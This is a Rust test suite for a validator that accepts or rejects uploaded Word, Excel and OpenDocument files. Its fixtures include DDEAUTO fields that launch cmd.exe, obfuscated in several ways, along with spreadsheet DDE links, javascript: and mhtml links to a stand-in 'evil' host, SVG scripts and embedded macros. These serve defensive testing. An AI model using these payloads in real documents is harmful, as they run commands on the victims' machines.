//! Documents that carry or do what no honest document does, and honest ones that look as odd.

use super::made::{EXCEL, Part, WORD, archive, excel, jpeg, open_document, part, pdf, png, relations, types, word};
use super::{Fault, Kind, ODT, judged, word_with};

const SHEET: &str = r#"<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>"#;
const LETTER: &str = r#"<Default Extension="docx" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document"/>"#;
const PNG: &str = r#"<Default Extension="png" ContentType="image/png"/>"#;

fn of_word(content_types: &str, document: &str, more: &[Part]) -> Vec<u8> {
    let mut parts = vec![part("[Content_Types].xml", types(WORD, "word/document.xml", content_types)), word()[1].clone(), part("word/document.xml", document)];
    parts.extend_from_slice(more);
    archive(&parts)
}

fn of_excel(content_types: &str, more: &[Part]) -> Vec<u8> {
    let mut parts = vec![part("[Content_Types].xml", types(EXCEL, "xl/workbook.xml", content_types)), excel()[1].clone(), excel()[2].clone()];
    parts.extend_from_slice(more);
    archive(&parts)
}

fn relation(kind: &str, target: &str, external: bool) -> String {
    let mode = if external { r#" TargetMode="External""# } else { "" };
    format!(
        r#"<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"{mode}/></Relationships>"#
    )
}

fn text(inside: &str) -> String {
    format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:document><w:body><w:p>{inside}</w:p></w:body></w:document>")
}

fn open_with(content: &str, more: &[Part]) -> Vec<u8> {
    let mut parts = open_document(ODT);
    parts[1] = part("content.xml", content);
    parts.extend_from_slice(more);
    archive(&parts)
}

fn utf16(text: &str) -> Vec<u8> {
    [0xfeff_u16].into_iter().chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect()
}

#[test]
fn a_document_within_a_document_is_held_to_the_same() {
    let ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 inside".to_vec();
    let with_macros = word_with(&[part("word/vbaProject.bin", ole)]);
    let macro_book = {
        let types = types("application/vnd.ms-excel.sheet.macroEnabled.main+xml", "xl/workbook.xml", "");
        archive(&[part("[Content_Types].xml", types), excel()[1].clone(), excel()[2].clone()])
    };
    let program = archive(&[part("evil.exe", "MZ")]);
    let foreign = |name: &str| Err(Fault::ForeignPart(name.to_owned()));
    let nested = |depth: usize| (0..depth).fold(archive(&word()), |inner, _| of_word(LETTER, &text(""), &[part("word/embeddings/a.docx", inner)]));
    for (what, content, answer) in [
        ("a letter with macros", of_word("", &text(""), &[part("word/embeddings/x.docm", with_macros.clone())]), foreign("x.docm")),
        ("called without", of_word(LETTER, &text(""), &[part("word/embeddings/x.docx", with_macros)]), Err(Fault::Embedded)),
        ("a sheet with macros", of_word(SHEET, &text(""), &[part("word/embeddings/x.xlsx", macro_book.clone())]), Err(Fault::Macros)),
        ("called a picture", of_word(PNG, &text(""), &[part("word/media/x.png", macro_book)]), foreign("x.png")),
        ("an archive with a program", of_word(SHEET, &text(""), &[part("word/embeddings/x.xlsx", program)]), Err(Fault::Embedded)),
        ("two letters", of_word(SHEET, &text(""), &[part("word/embeddings/x.xlsx", "PK")]), Err(Fault::Embedded)),
        ("another kind", of_word(SHEET, &text(""), &[part("word/embeddings/x.xlsx", archive(&word()))]), Err(Fault::Embedded)),
        (
            "a PDF with a script",
            of_word("<Default Extension=\"pdf\" ContentType=\"application/pdf\"/>", &text(""), &[part("word/media/a.pdf", pdf(b"<</S/JavaScript>>"))]),
            Err(Fault::Embedded),
        ),
        ("the table behind a chart", of_word(SHEET, &text(""), &[part("word/embeddings/Microsoft_Excel_Sheet.xlsx", archive(&excel()))]), Ok(Kind::Docx)),
        ("a letter in a letter in a letter", nested(2), Ok(Kind::Docx)),
        ("and in another one", nested(3), Err(Fault::Embedded)),
    ] {
        assert_eq!(judged("a.docx", &content), answer, "{what}");
    }
}

#[test]
fn only_parts_that_honest_documents_have_are_taken() {
    let foreign = |name: &str| Err(Fault::ForeignPart(name.to_owned()));
    for name in ["x.js", "y.bat", "z.ps1", "a.hta", "a.lnk", "chunk.html", "afchunk.mht", "a"] {
        assert_eq!(judged("a.docx", &of_word("", &text(""), &[part(&format!("word/{name}"), "x")])), foreign(name), "{name}");
        let called_text = format!(r#"<Override PartName="/word/{name}" ContentType="application/xml"/>"#);
        assert_eq!(judged("a.docx", &of_word(&called_text, &text(""), &[part(&format!("word/{name}"), "<x/>")])), foreign(name), "{name}");
        assert_eq!(judged("a.odt", &open_with("<office:document-content/>", &[part(name, "x")])), foreign(name), "{name}");
    }
    for (name, content) in [("word/media/a.png", b"<html>".to_vec()), ("word/media/b.png", b"PK\x03\x04".to_vec()), ("word/media/c.png", pdf(b""))] {
        assert!(matches!(judged("a.docx", &of_word(PNG, &text(""), &[part(name, content)])), Err(Fault::ForeignPart(_))), "{name}");
    }
    // Who prints is kept as bytes; an archive is not.
    let printer = r#"<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"/>"#;
    assert_eq!(judged("a.xlsx", &of_excel(printer, &[part("xl/printerSettings/printerSettings1.bin", b"\\\0\\\0S\0".to_vec())])), Ok(Kind::Xlsx));
    assert_eq!(judged("a.xlsx", &of_excel(printer, &[part("xl/printerSettings/printerSettings1.bin", archive(&excel()))])), foreign("printerSettings1.bin"));
}

#[test]
fn a_document_that_acts_is_refused_however_it_is_written() {
    let acts = Err(Fault::OfficeActs);
    let code = |runs: &str| text(&format!("<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>{runs}<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"));
    for (what, document) in [
        ("a field", code("<w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\"</w:instrText>")),
        ("in two runs", code("<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r>")),
        ("with a remark", code("<w:instrText>DD<!-- > -->EAUTO cmd</w:instrText>")),
        ("written as data", code("<w:instrText><![CDATA[DDEAUTO cmd]]></w:instrText>")),
        ("by number", code("<w:instrText>&#68;&#x44;E cmd</w:instrText>")),
        ("by a number of many figures", code(&format!("<w:instrText>&#{}68;DE cmd</w:instrText>", "0".repeat(500)))),
        ("in small letters", code("<w:instrText>ddeauto cmd</w:instrText>")),
        ("under another prefix", code("<q:instrText>DDEAUTO cmd</q:instrText>")),
        ("without its end", text("<w:fldChar w:fldCharType='begin'/><w:instrText>DDEAUTO cmd</w:instrText>")),
        ("taken away", code("<w:delInstrText>DDEAUTO cmd</w:delInstrText>")),
        ("made by another field", code("<w:fldChar w:fldCharType='begin'/><w:instrText>QUOTE 68 68 69</w:instrText>")),
        ("in one element", text("<w:fldSimple w:instr='DDEAUTO cmd'/>")),
        ("a link to an object", code("<w:instrText>LINK Excel.Sheet.12 \"\\\\\\\\evil\\\\x\"</w:instrText>")),
        ("a page in it", text("<w:altChunk r:id=\"r2\"/>")),
    ] {
        assert_eq!(judged("a.docx", &of_word("", &document, &[])), acts, "{what}");
        let mut pairs = word();
        pairs[2] = part("word/document.xml", utf16(&document));
        assert_eq!(judged("a.docx", &archive(&pairs)), acts, "{what}, two bytes a sign");
    }
}

#[test]
fn no_relation_leads_to_what_acts() {
    for kind in ["aFChunk", "attachedToolbars", "keyMapCustomizations", "ui/extensibility", "webextension", "subDocument", "frame"] {
        let asked = part("word/_rels/document.xml.rels", relation(kind, "a.xml", false));
        assert!(matches!(judged("a.docx", &of_word("", &text(""), &[asked])), Err(Fault::OfficeActs | Fault::Macros)), "{kind}");
    }
    for (kind, target) in [("oleObject", "mhtml:http://evil/x!x-usc:http://evil/x"), ("image", "mhtml:http://evil"), ("hyperlink", "java&#115;cript:alert(1)")]
    {
        let out = part("word/_rels/document.xml.rels", relation(kind, target, true));
        assert!(matches!(judged("a.docx", &of_word("", &text(""), &[out])), Err(Fault::OfficeActs | Fault::Embedded)), "{kind}");
    }
}

#[test]
fn drawings_menus_and_tables_that_act_are_refused() {
    let acts = Err(Fault::OfficeActs);
    let svg = r#"<Default Extension="svg" ContentType="image/svg+xml"/>"#;
    for drawing in ["<svg><script>1</script></svg>", "<svg onload='x()'/>", "<svg><a xlink:href='java\tscript:x'/></svg>"] {
        assert_eq!(judged("a.docx", &of_word(svg, &text(""), &[part("word/media/a.svg", drawing)])), acts, "{drawing}");
    }
    assert_eq!(judged("a.docx", &of_word("", &text(""), &[part("customUI/customUI.xml", "<customUI onLoad=\"x\"/>")])), acts);
    let link = r#"<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>"#;
    let dde = part("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>");
    assert_eq!(judged("a.xlsx", &of_excel(link, &[dde])), acts);
    assert_eq!(judged("a.xlsx", &of_excel("", &[part("xl/activeX/activeX1.xml", "<ax:ocx ax:classid=\"{x}\"/>")])), acts);
    assert_eq!(judged("a.xlsx", &of_excel("", &[part("xl/worksheets/sheet2.xml", "<xm:macrosheet/>")])), acts);
}

#[test]
fn an_open_document_that_acts_is_refused_however_it_is_written() {
    for content in [
        "<office:scripts><office:event-listeners><script:event-listener script:event-name=\"dom:load\" xlink:href=\"vnd.sun.star.script:x\"/></office:event-listeners></office:scripts>",
        "<s:event-listener xmlns:s='x'/>",
        "<text:script script:language='JavaScript'>x</text:script>",
        "<text:a xlink:href='vnd.sun.star.&#115;cript:x'>x</text:a>",
        "<text:a xlink:href=' macro:///x'>x</text:a>",
        "<office:dde-source office:dde-application='soffice'/>",
        "<table:dde-link><office:dde-source/></table:dde-link>",
        "<draw:floating-frame xlink:href='http://evil'/>",
    ] {
        let document = open_with(&format!("<office:document-content>{content}</office:document-content>"), &[]);
        assert_eq!(judged("a.odt", &document), Err(Fault::OfficeActs), "{content}");
    }
}

#[test]
fn text_in_strange_signs_cannot_be_looked_through() {
    for document in [
        b"<?xml version='1.0' encoding='utf-7'?><a/>".to_vec(),
        b"\x4c\x6f\xa7\x94".to_vec(),
        b"<a>\0</a>".to_vec(),
        b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>".to_vec(),
        b"<a".to_vec(),
    ] {
        let mut parts = word();
        parts[2] = part("word/document.xml", document);
        assert_eq!(judged("a.docx", &archive(&parts)), Err(Fault::Damaged));
    }
}

/// The types of content of all that a secretary's document may have.
fn types_of_a_letter() -> String {
    [
        PNG,
        SHEET,
        r#"<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>"#,
        r#"<Default Extension="jpeg" ContentType="image/jpeg"/><Default Extension="emf" ContentType="image/x-emf"/><Default Extension="svg" ContentType="image/svg+xml"/>"#,
        r#"<Default Extension="odttf" ContentType="application/vnd.openxmlformats-officedocument.obfuscatedFont"/><Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/>"#,
        r#"<Override PartName="/word/theme/theme1.xml" ContentType="application/vnd.openxmlformats-officedocument.theme+xml"/>"#,
        r#"<Override PartName="/word/charts/chart1.xml" ContentType="application/vnd.openxmlformats-officedocument.drawingml.chart+xml"/>"#,
        r#"<Override PartName="/word/charts/style1.xml" ContentType="application/vnd.ms-office.chartstyle+xml"/>"#,
        r#"<Override PartName="/customXml/itemProps1.xml" ContentType="application/vnd.openxmlformats-officedocument.customXmlProperties+xml"/>"#,
        r#"<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>"#,
        r#"<Override PartName="/docMetadata/LabelInfo.xml" ContentType="application/vnd.ms-office.classificationlabels+xml"/>"#,
    ]
    .concat()
}

/// What secretaries' documents have, taken from what their programs write.
#[test]
fn an_honest_letter_with_all_that_it_has_is_taken() {
    let mut emf = vec![0; 44];
    emf[0] = 1;
    emf[40..44].copy_from_slice(b" EMF");
    let placeholder = text(
        "<w:fldChar w:fldCharType='begin'/><w:instrText xml:space='preserve'> MACROBUTTON  NoMacro [Klicka här]</w:instrText><w:fldChar w:fldCharType='separate'/><w:t>DDE står för något.</w:t><w:fldChar w:fldCharType='end'/>\
         <w:fldChar w:fldCharType='begin'/><w:instrText>HYPERLINK \"https://example.se?a=1&amp;b=2\"</w:instrText><w:fldChar w:fldCharType='separate'/><w:fldChar w:fldCharType='begin'/><w:instrText>PAGEREF _Toc1 \\h</w:instrText><w:fldChar w:fldCharType='end'/><w:fldChar w:fldCharType='end'/><w:object><o:OLEObject Type='Embed' ProgID='Excel.Sheet.12'/></w:object>",
    );
    let letter = of_word(
        &types_of_a_letter(),
        &placeholder,
        &[
            part("word/_rels/document.xml.rels", relation("image", "media/image1.png", false)),
            part("word/_rels/settings.xml.rels", relation("attachedTemplate", "file:///\\\\server\\mallar\\Brev.dotx", true)),
            part("word/charts/chart1.xml", "<c:chartSpace/>"),
            part("word/charts/style1.xml", "<cs:chartStyle/>"),
            part("word/charts/_rels/chart1.xml.rels", relation("package", "../embeddings/Microsoft_Excel_Sheet.xlsx", false)),
            part("word/embeddings/Microsoft_Excel_Sheet.xlsx", archive(&excel())),
            part("word/media/image1.png", png(3, 3)),
            part("word/media/image2.jpeg", jpeg(3, 3)),
            // Called by another picture's name, as programs do.
            part("word/media/image3.png", jpeg(3, 3)),
            part("word/media/image4.emf", emf),
            part("word/media/image5.svg", "<?xml version='1.0'?><!-- drawn --><svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>"),
            part("word/fonts/font1.odttf", b"scrambled".to_vec()),
            part("word/theme/theme1.xml", "<a:theme/>"),
            part("word/vmlDrawing1.vml", "<xml xmlns:v='v'><v:shape o:gfxdata='UEsDBBQ'><br></v:shape></xml>"),
            part("customXml/item1.xml", utf16("<?xml version=\"1.0\" encoding=\"utf-16\"?><DataMashup>AAAA</DataMashup>")),
            part("customXml/itemProps1.xml", "<ds:datastoreItem/>"),
            part("docProps/core.xml", "<cp:coreProperties/>"),
            part("docMetadata/LabelInfo.xml", "<clbl:labelList/>"),
            Part { stored: true, ..part("word/empty/", "") },
        ],
    );
    assert_eq!(judged("a.docx", &letter), Ok(Kind::Docx));
    // Written on a Mac, and in the strict form.
    for (kind, target, external) in [("attachedTemplate", "Macintosh%20HD:Users:eva:Mallar:Brev.dotx", true), ("extendedProperties", "docProps/app.xml", false)]
    {
        let document = of_word("", &text(""), &[part("word/_rels/settings.xml.rels", relation(kind, target, external))]);
        assert_eq!(judged("a.docx", &document), Ok(Kind::Docx), "{kind}");
    }
}

#[test]
fn an_honest_open_document_with_all_that_it_has_is_taken() {
    let open = open_with(
        "<office:document-content><office:scripts/><office:event-listeners/><table:dde-links/><text:a xlink:href='https://example.se'>Skript: macro</text:a></office:document-content>",
        &[
            part("Pictures/1000.svm", "VCLMTF"),
            part("Pictures/a.png", png(3, 3)),
            part("ObjectReplacements/Object 1", "VCLMTF"),
            part("Object 1/content.xml", "<office:document-content/>"),
            part("Thumbnails/thumbnail.png", png(3, 3)),
            part("manifest.rdf", "<rdf:RDF/>"),
            part("layout-cache", b"\x04\0\0\0".to_vec()),
            part("Configurations2/accelerator/current.xml", ""),
            part(
                "Configurations2/toolbar/a.xml",
                "<!DOCTYPE toolbar:toolbar PUBLIC 'x' 'y'><toolbar:toolbar><toolbar:toolbaritem xlink:href='.uno:Bold'/></toolbar:toolbar>",
            ),
            Part { stored: true, ..part("Configurations2/images/Bitmaps/", "") },
            part("Fonts/a.ttf", b"\0\x01\0\0 a".to_vec()),
        ],
    );
    assert_eq!(judged("a.odt", &open), Ok(Kind::Odt));
    assert_eq!(relations("x", "").matches("Relationship ").count(), 1);
}
